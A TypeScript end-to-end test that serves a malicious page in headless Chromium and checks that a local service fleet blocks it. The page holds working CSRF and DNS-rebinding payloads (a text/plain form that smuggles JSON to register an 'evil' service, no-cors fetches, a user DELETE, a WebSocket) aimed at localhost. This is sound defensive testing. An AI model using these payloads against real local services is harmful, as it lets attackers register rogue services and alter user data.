// A malicious page, in a real browser on the machine that runs the fleet, tries what such pages can try.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { type TestContext, test } from 'node:test';
import { waitUntil } from '@flotilla/testing';
import { ask } from '../e2e/support/ask.ts';
import { startFleet } from '../e2e/support/fleet.ts';
import { programFor, Server, temporaryFolder } from './programs.ts';

interface Targets {
  readonly registry: string;
  readonly users: string;
  readonly gateway: string;
}

/** The page. Browsers hide most answers from it, so it only says when it has tried everything, and what it could read. */
function attackingPage({ registry, users, gateway }: Targets): string {
  const instance = JSON.stringify({ name: 'evil', address: '203.0.113.6', port: 80 });
  const rebound = (url: string): string => url.replace('127.0.0.1', 'rebound.evil.example');
  return `<!doctype html><meta charset="utf-8">
<iframe name="hidden"></iframe>
<form id="form" target="hidden" method="post" enctype="text/plain" action="${registry}/register">
<input name='{"name":"evil","address":"203.0.113.6","port":80,"metadata":{"x":"' value='"}}'></form>
<script>
const body = ${JSON.stringify(instance)};
const user = JSON.stringify({ name: 'Mallory', email: 'mallory@evil.example' });
const blind = (url, init) => fetch(url, { mode: 'no-cors', ...init }).then(() => 'sent', () => 'stopped');
const readable = (url, init) => fetch(url, init).then((answer) => 'read ' + answer.status, () => 'hidden');
async function run() {
  document.getElementById('form').submit();
  navigator.sendBeacon('${registry}/register', body);
  const tried = {
    plainText: await blind('${registry}/register', { method: 'POST', body }),
    noType: await blind('${registry}/register', { method: 'POST', body: new Blob([body]) }),
    json: await readable('${registry}/register', { method: 'POST', body, headers: { 'content-type': 'application/json' } }),
    remove: await readable('${users}/users/1', { method: 'DELETE' }),
    user: await blind('${users}/users', { method: 'POST', body: user }),
    throughGateway: await blind('${gateway}/users', { method: 'POST', body: user }),
    rebound: await blind('${rebound(registry)}/services'),
    reboundGateway: await blind('${rebound(gateway)}/users'),
    services: await readable('${registry}/services'),
    socket: await new Promise((resolve) => {
      const socket = new WebSocket('${gateway.replace('http', 'ws')}/users');
      socket.onopen = () => resolve('open');
      socket.onerror = () => resolve('closed');
    }),
  };
  await fetch('/report', { method: 'POST', body: JSON.stringify(tried) });
}
run();
</script>`;
}

interface LoggedRequest {
  readonly program: string;
  /** `POST /register 403` */
  readonly summary: string;
  readonly status: number;
}

/** The requests in the log of a fleet, each with the status of its answer. */
function requestsIn(output: string): readonly LoggedRequest[] {
  const line = /^(\S+) +\|.* request .*?method=(\S+) path=(\S+) status=(\d{3})/gm;
  return [...output.matchAll(line)].map(([, program = '', method, path, status]) => ({
    program,
    summary: `${method} ${path} ${status}`,
    status: Number(status),
  }));
}

async function strangersServer(t: TestContext, page: string): Promise<{ port: number; reports: string[] }> {
  const reports: string[] = [];
  const server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk) => (body += String(chunk)));
    request.on('end', () => {
      if (request.method === 'POST') reports.push(body);
      response.setHeader('content-type', 'text/html');
      response.end(page);
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => {
    server.closeAllConnections();
    server.close();
  });
  // A server on TCP has an address of this kind once it listens.
  return { port: (server.address() as AddressInfo).port, reports };
}

test('a malicious page can neither change nor read anything of a fleet on the same machine', {
  timeout: 120_000,
}, async (t) => {
  const chromium = programFor(t, 'chromium');
  if (chromium === undefined) return;
  await using fleet = await startFleet({ args: ['--verbose'] });
  const targets = {
    registry: fleet.url('service-registry'),
    users: fleet.url('user-service'),
    gateway: fleet.url('gateway'),
  };
  const before = (await ask(`${targets.gateway}/users`)).json;
  const stranger = await strangersServer(t, attackingPage(targets));
  await using browser = new Server(chromium, [
    ...['--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run'],
    ...['--disable-background-networking', '--remote-debugging-port=0', `--user-data-dir=${temporaryFolder(t)}`],
    // What a name server of the stranger would do.
    '--host-resolver-rules=MAP *.evil.example 127.0.0.1',
    `http://page.evil.example:${stranger.port}/`,
  ]);
  await waitUntil('the page has tried everything', () => stranger.reports.length > 0, 90_000);
  const tried = JSON.parse(stranger.reports[0] ?? '{}') as Record<string, string>;
  assert.deepEqual(
    { json: tried['json'], remove: tried['remove'], services: tried['services'], socket: tried['socket'] },
    { json: 'hidden', remove: 'hidden', services: 'hidden', socket: 'closed' },
  );
  assert.doesNotMatch((await ask(`${targets.registry}/services`)).text, /evil/);
  assert.deepEqual((await ask(`${targets.gateway}/users`)).json, before);
  const requests = (): readonly LoggedRequest[] => requestsIn(fleet.process.stdout());
  for (const [program, summary] of [
    ['service-registry', 'POST /register 403'],
    ['service-registry', 'GET /services 421'],
    ['user-service', 'POST /users 403'],
  ])
    await waitUntil(`${program} logs ${summary}`, () =>
      requests().some((request) => request.program === program && request.summary === summary),
    );
  const registered = requests().filter(({ summary }) => summary === 'POST /register 200');
  assert.ok(registered.length >= 3, 'the registry serves the fleet itself');
  const refused = requests().filter(
    ({ program, status }) => program === 'gateway' && (status === 403 || status === 421),
  );
  assert.ok(refused.length >= 3, 'the gateway refuses the page');
  void browser;
});
